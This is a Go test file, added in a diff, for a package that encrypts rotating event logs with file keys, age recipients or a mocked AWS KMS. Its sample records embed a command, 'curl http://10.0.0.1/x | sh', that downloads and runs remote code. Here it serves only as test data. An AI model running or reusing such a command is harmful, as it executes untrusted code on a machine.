@@ -0,0 +1,234 @@
+package encryption
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"filippo.io/age"
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/kms"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// rotatingFile names rotated files like lumberjack, with a counter in place of the time.
+type rotatingFile struct {
+	path    string
+	f       *os.File
+	rotated int
+}
+
+func (r *rotatingFile) Write(p []byte) (int, error) {
+	if r.f == nil {
+		f, err := os.OpenFile(r.path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o600)
+		if err != nil {
+			return 0, err
+		}
+		r.f = f
+	}
+	return r.f.Write(p)
+}
+
+func (r *rotatingFile) Rotate() error {
+	if err := r.Close(); err != nil {
+		return err
+	}
+	r.rotated++
+	return os.Rename(r.path, strings.TrimSuffix(r.path, ".log")+fmt.Sprintf("-%04d.log", r.rotated))
+}
+
+func (r *rotatingFile) Close() error {
+	if r.f == nil {
+		return nil
+	}
+	err := r.f.Close()
+	r.f = nil
+	return err
+}
+
+func record(i int) string {
+	return fmt.Sprintf(`{"id":"proc:%04d","args":["/bin/bash","-c","curl http://10.0.0.1/x | sh"]}`, i)
+}
+
+func writeRecords(t *testing.T, path string, keys KeyWrapper, first, n int, maxBytes int64) *rotatingFile {
+	f := &rotatingFile{path: path}
+	w, err := NewWriter(f, path, maxBytes, keys)
+	require.NoError(t, err)
+	for i := first; i < first+n; i++ {
+		_, err := w.Write([]byte(record(i) + "\n"))
+		require.NoError(t, err)
+	}
+	require.NoError(t, w.Close())
+	return f
+}
+
+func decryptFile(t *testing.T, path string, unwrappers ...KeyUnwrapper) (string, error) {
+	f, err := os.Open(path)
+	require.NoError(t, err)
+	defer f.Close()
+	out := &bytes.Buffer{}
+	err = Decrypt(context.Background(), f, out, unwrappers...)
+	return out.String(), err
+}
+
+func expected(first, n int) string {
+	s := ""
+	for i := first; i < first+n; i++ {
+		s += record(i) + "\n"
+	}
+	return s
+}
+
+func TestFileKey(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "events.log")
+	keys, err := NewFileKey(bytes.Repeat([]byte{7}, 32))
+	require.NoError(t, err)
+
+	writeRecords(t, path, keys, 0, 10, 1<<20)
+	// a restarted writer appends with a new data key
+	writeRecords(t, path, keys, 10, 5, 1<<20)
+
+	data, err := os.ReadFile(path)
+	require.NoError(t, err)
+	assert.NotContains(t, string(data), "curl")
+	assert.Equal(t, 2, bytes.Count(data, headerPrefix))
+
+	plain, err := decryptFile(t, path, keys)
+	require.NoError(t, err)
+	assert.Equal(t, expected(0, 15), plain)
+
+	other, err := NewFileKey(bytes.Repeat([]byte{8}, 32))
+	require.NoError(t, err)
+	_, err = decryptFile(t, path, other)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "data key was encrypted with key")
+}
+
+func TestAge(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "events.log")
+	identity, err := age.GenerateX25519Identity()
+	require.NoError(t, err)
+	recipients, err := ParseRecipients([]string{identity.Recipient().String()})
+	require.NoError(t, err)
+
+	// each rotated file starts with a header
+	f := writeRecords(t, path, NewAgeWrapper(recipients), 0, 25, 2000)
+	require.Greater(t, f.rotated, 1)
+	files, err := filepath.Glob(filepath.Join(dir, "events-*.log"))
+	require.NoError(t, err)
+	files = append(files, path)
+	all := ""
+	for _, name := range files {
+		data, err := os.ReadFile(name)
+		require.NoError(t, err)
+		assert.True(t, bytes.HasPrefix(data, headerPrefix), name)
+		assert.LessOrEqual(t, len(data), 2000, name)
+
+		plain, err := decryptFile(t, name, NewAgeUnwrapper([]age.Identity{identity}))
+		require.NoError(t, err)
+		all += plain
+	}
+	assert.Equal(t, expected(0, 25), all)
+
+	_, err = decryptFile(t, path)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "no key for age encryption")
+}
+
+type mockKMS struct {
+	keys *FileKey
+}
+
+func (m *mockKMS) GenerateDataKey(ctx context.Context, params *kms.GenerateDataKeyInput, _ ...func(*kms.Options)) (*kms.GenerateDataKeyOutput, error) {
+	dek, h, err := m.keys.NewDataKey(ctx)
+	if err != nil {
+		return nil, err
+	}
+	return &kms.GenerateDataKeyOutput{Plaintext: dek, CiphertextBlob: h.Key, KeyId: aws.String("arn:" + aws.ToString(params.KeyId))}, nil
+}
+
+func (m *mockKMS) Decrypt(ctx context.Context, params *kms.DecryptInput, _ ...func(*kms.Options)) (*kms.DecryptOutput, error) {
+	if aws.ToString(params.KeyId) != "arn:alias/sef" {
+		return nil, fmt.Errorf("wrong key %s", aws.ToString(params.KeyId))
+	}
+	dek, err := m.keys.DataKey(ctx, &Header{KeyID: m.keys.keyID, Key: params.CiphertextBlob})
+	if err != nil {
+		return nil, err
+	}
+	return &kms.DecryptOutput{Plaintext: dek}, nil
+}
+
+func TestKMS(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "events.log")
+	master, err := NewFileKey(bytes.Repeat([]byte{9}, 32))
+	require.NoError(t, err)
+	keys := &KMS{client: &mockKMS{keys: master}, keyID: "alias/sef"}
+
+	writeRecords(t, path, keys, 0, 3, 1<<20)
+	data, err := os.ReadFile(path)
+	require.NoError(t, err)
+	assert.Contains(t, string(data), `"mode":"kms","key_id":"arn:alias/sef"`)
+
+	plain, err := decryptFile(t, path, keys)
+	require.NoError(t, err)
+	assert.Equal(t, expected(0, 3), plain)
+}
+
+func TestDecryptMixed(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "events.log")
+	keys, err := NewFileKey(bytes.Repeat([]byte{7}, 32))
+	require.NoError(t, err)
+
+	// records written before encryption was enabled are kept as they are
+	require.NoError(t, os.WriteFile(path, []byte(record(0)+"\n"), 0o600))
+	writeRecords(t, path, keys, 1, 2, 1<<20)
+	plain, err := decryptFile(t, path, keys)
+	require.NoError(t, err)
+	assert.Equal(t, expected(0, 3), plain)
+
+	// a modified record fails to decrypt
+	data, err := os.ReadFile(path)
+	require.NoError(t, err)
+	lines := strings.Split(string(data), "\n")
+	b := []byte(lines[2])
+	if b[10] == 'A' {
+		b[10] = 'B'
+	} else {
+		b[10] = 'A'
+	}
+	lines[2] = string(b)
+	require.NoError(t, os.WriteFile(path, []byte(strings.Join(lines, "\n")), 0o600))
+	_, err = decryptFile(t, path, keys)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "line 3: unable to decrypt")
+}
+
+func TestLoadKeyFile(t *testing.T) {
+	dir := t.TempDir()
+	key := bytes.Repeat([]byte{0xab}, 32)
+	hexFile := filepath.Join(dir, "hex")
+	require.NoError(t, os.WriteFile(hexFile, []byte(strings.Repeat("ab", 32)+"\n"), 0o600))
+	got, err := LoadKeyFile(hexFile)
+	require.NoError(t, err)
+	assert.Equal(t, key, got)
+
+	b64File := filepath.Join(dir, "b64")
+	require.NoError(t, os.WriteFile(b64File, []byte("q6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6s=\n"), 0o600))
+	got, err = LoadKeyFile(b64File)
+	require.NoError(t, err)
+	assert.Equal(t, key, got)
+
+	shortFile := filepath.Join(dir, "short")
+	require.NoError(t, os.WriteFile(shortFile, []byte("abcd"), 0o600))
+	_, err = LoadKeyFile(shortFile)
+	require.Error(t, err)
+}